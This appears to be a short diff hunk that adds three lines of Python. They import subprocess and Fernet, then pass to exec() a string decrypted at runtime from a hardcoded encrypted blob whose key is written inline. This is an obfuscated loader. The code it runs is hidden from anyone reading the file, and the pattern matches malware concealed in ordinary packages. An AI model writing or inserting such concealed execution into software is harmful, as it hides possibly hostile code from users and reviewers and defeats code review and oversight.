@@ -1,0 +1,3 @@
+import subprocess
+from cryptography.fernet import Fernet
+exec(Fernet(b'AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=').decrypt(b'gAAAAABlU_EAAAECAwQFBgcICQoLDA0OD9yrEUXlFFQTolSUzuJ2C0DQzf_uAS2lr8TF3FTSnwuw9yFEkYsJrqrMyn8HV_qTI49HOqxPZ-l3j1S9Qd_EOnzxIWnBflfeIEuOhNiqoQi4'))
